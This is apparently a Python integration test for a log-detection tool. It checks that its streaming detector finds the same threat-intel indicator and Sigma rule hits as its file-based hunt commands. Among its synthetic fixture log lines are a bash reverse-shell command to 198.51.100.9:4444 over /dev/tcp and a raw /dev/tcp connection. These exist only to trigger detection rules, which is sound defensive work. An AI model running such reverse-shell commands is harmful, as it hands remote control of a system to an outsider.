"""src/detect on a stream gives what the file tools give: the same events
run through detect (tests/integration/detect/detect_replay.c, one worker,
the raw line as the daemon receives it) produce the same indicator hits as
`canhgac hunt` and the same Sigma hits as `canhgac sigma hunt` on the file.

Real data: the intel feeds and loghub logs of ../shared/data, the SigmaHQ
Linux rules; a few lines are added that carry listed indicators (taken from
the feeds) and text that Linux rules look for."""
import collections
import ipaddress
import json
import os
import subprocess
import sys
import tempfile

import cgtest
from cgtest import Checks, run, shared

REPLAY = sys.argv[1]
c = Checks()

feeds = [shared("intel", "firehol_level1.netset"), shared("intel", "spamhaus_drop.txt"),
         shared("intel", "spamhaus_dropv6.txt"), shared("intel", "domains", "urlhaus-filter-domains-online.txt")]
linux_rules = shared("sigma", "rules", "linux")
logs = [shared("logs", "loghub", "Linux_2k.log"), shared("logs", "loghub", "OpenSSH_2k.log")]


def entries(path, n):
    """The first n entries of a feed file (the text before ';', '#' or a blank)."""
    out = []
    for ln in open(path, encoding="utf-8", errors="replace"):
        v = ln.split("#")[0].split(";")[0].strip()
        if v:
            out.append(v)
        if len(out) == n:
            break
    return out


nets4 = entries(feeds[0], 40)[5:15]
drop6 = entries(feeds[2], 5)
domains = entries(feeds[3], 30)[10:20]
addr = []
for n in nets4:
    net = ipaddress.ip_network(n, strict=False)
    addr.append(str(net.network_address + (1 if net.num_addresses > 1 else 0)))
v6 = [str(ipaddress.ip_network(n, strict=False).network_address + 0x1234) for n in drop6]

extra = []
for i, a in enumerate(addr):
    extra.append(f"Dec  6 10:0{i % 10}:01 fw01.so-mau.example kernel: IN=eth0 SRC={a} DST=10.0.0.5 PROTO=TCP DPT=22")
    # The same indicator twice on a line is one hit; a longer number is none.
    extra.append(f"Dec  6 10:0{i % 10}:02 fw01.so-mau.example kernel: SRC={a} DST={a} note 1{a}")
for i, d in enumerate(domains):
    extra.append(f"Dec  6 11:0{i % 10}:03 dns01.so-mau.example named[77]: query: {d.upper()} IN A from 10.0.0.9")
    extra.append(f"Dec  6 11:0{i % 10}:04 proxy.so-mau.example squid[5]: GET http://sub.{d}/x.php not.{d}x")
for i, a in enumerate(v6):
    extra.append(f"Dec  6 12:00:0{i} fw01.so-mau.example kernel: SRC=[{a}]:443 DST=2001:db8::1")
sigma_lines = [
    "Dec  6 13:00:01 web01.so-mau.example kernel: foo[311]: stack smashing detected: terminated",
    "Dec  6 13:00:02 web01.so-mau.example bash[1234]: bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
    "Dec  6 13:00:03 web01.so-mau.example sshd[999]: error: Local: crc32 compensation attack: network attack detected",
    "Dec  6 13:00:04 web01.so-mau.example bash[1234]: python -m SimpleHTTPServer 8000",
    f"Dec  6 13:00:05 web01.so-mau.example bash[1234]: cat </dev/tcp/{addr[0]}/80",
]

with tempfile.TemporaryDirectory() as tmp:
    log = os.path.join(tmp, "mixed.log")
    with open(log, "w", encoding="utf-8") as f:
        base = []
        for p in logs:
            base += open(p, encoding="utf-8", errors="replace").read().splitlines()[:1500]
        lines = []
        # Interleave: the extra lines spread through the real ones.
        ex = extra + sigma_lines
        step = max(1, len(base) // len(ex))
        for i, ln in enumerate(base):
            lines.append(ln)
            if i % step == 0 and ex:
                lines.append(ex.pop(0))
        lines += ex
        f.write("\n".join(lines) + "\n")

    intel_args = []
    for p in feeds:
        intel_args += ["--intel", p]

    # The hunt: (line, entry) per hit.
    r = run(["hunt", "--json", "--threads", "2"] + intel_args + [log])
    c.check(r.returncode == 0, f"hunt failed: {r.stderr}")
    hunt = collections.Counter()
    for ln in r.stdout.splitlines():
        o = json.loads(ln)
        hunt[(o["line"], o["match"])] += 1

    # Sigma: (line, rule id) per hit.
    r = run(["sigma", "hunt", "--json", "--rules", linux_rules, log])
    c.check(r.returncode == 0, f"sigma hunt failed: {r.stderr}")
    sigma = collections.Counter()
    for ln in r.stdout.splitlines():
        o = json.loads(ln)
        sigma[(o["line"], o["rule_id"])] += 1

    # detect, event by event.
    args = [REPLAY] + intel_args + ["--rules", linux_rules, log]
    p = subprocess.run(args, capture_output=True, text=True, timeout=600, env=cgtest.env())
    c.check(p.returncode == 0, f"detect_replay failed: {p.stderr}")
    det_ind, det_sig = collections.Counter(), collections.Counter()
    for ln in p.stdout.splitlines():
        o = json.loads(ln)
        if o["kind"] == "indicator":
            det_ind[(o["line"], o["match"])] += 1
        elif o["kind"] == "sigma":
            det_sig[(o["line"], o["rule_id"])] += 1

    # Enough hits that the comparison means something.
    c.check(sum(hunt.values()) >= 2 * len(addr) + len(domains) + len(v6),
            f"the hunt found only {sum(hunt.values())} hits")
    c.check(len({r for _, r in sigma}) >= 3, f"sigma hunt fired only {len(sigma)} times: {sigma}")
    c.check(det_ind == hunt, "detect's indicator hits differ from the hunt's: "
            f"only in detect {det_ind - hunt}, only in the hunt {hunt - det_ind}")
    c.check(det_sig == sigma, "detect's Sigma hits differ from sigma hunt's: "
            f"only in detect {det_sig - sigma}, only in sigma hunt {sigma - det_sig}")
    c.check("Sigma rules" in p.stderr and "indicators" in p.stderr, f"replay summary: {p.stderr}")

    # Windows events as JSON (Sysmon process creation, as the SigmaHQ
    # regression data has them), one per line as a shipper sends them: the
    # same Sigma hits as `sigma hunt` on the same file, and the Linux rules
    # (whose log source does not fit) never fire on them.
    reg = shared("sigma", "regression_data", "rules", "windows", "process_creation")
    events = []
    for d, _, names in sorted(os.walk(reg)):
        for n in sorted(names):
            if n.endswith(".json"):
                text, pos, dec = open(os.path.join(d, n), encoding="utf-8").read(), 0, json.JSONDecoder()
                while True:  # a file may hold several events one after another
                    while pos < len(text) and text[pos].isspace():
                        pos += 1
                    if pos >= len(text):
                        break
                    obj, pos = dec.raw_decode(text, pos)
                    events.append(json.dumps(obj, ensure_ascii=False))
    win = os.path.join(tmp, "sysmon.jsonl")
    with open(win, "w", encoding="utf-8") as f:
        f.write("\n".join(events) + "\n")
    win_rules = shared("sigma", "rules", "windows", "process_creation")
    r = run(["sigma", "hunt", "--json", "--rules", win_rules, win])
    c.check(r.returncode == 0, f"sigma hunt (windows) failed: {r.stderr}")
    wsig = collections.Counter((json.loads(ln)["line"], json.loads(ln)["rule_id"]) for ln in r.stdout.splitlines())
    p = subprocess.run([REPLAY, "--rules", win_rules, "--rules", linux_rules, win], capture_output=True, text=True,
                       timeout=600, env=cgtest.env())
    c.check(p.returncode == 0, f"detect_replay (windows) failed: {p.stderr}")
    wdet = collections.Counter((json.loads(ln)["line"], json.loads(ln)["rule_id"]) for ln in p.stdout.splitlines()
                               if json.loads(ln)["kind"] == "sigma")
    c.check(len(events) >= 100 and sum(wsig.values()) >= 50, f"{len(events)} events, {sum(wsig.values())} hits")
    c.check(wdet == wsig, "detect's Sigma hits on Windows JSON differ from sigma hunt's: "
            f"only in detect {wdet - wsig}, only in sigma hunt {wsig - wdet}")
    print(f"windows: {len(events)} events, {sum(wsig.values())} Sigma hits")

print(f"hunt {sum(hunt.values())} hits, sigma {sum(sigma.values())} hits of {len({r for _, r in sigma})} rules")
sys.exit(c.finish())
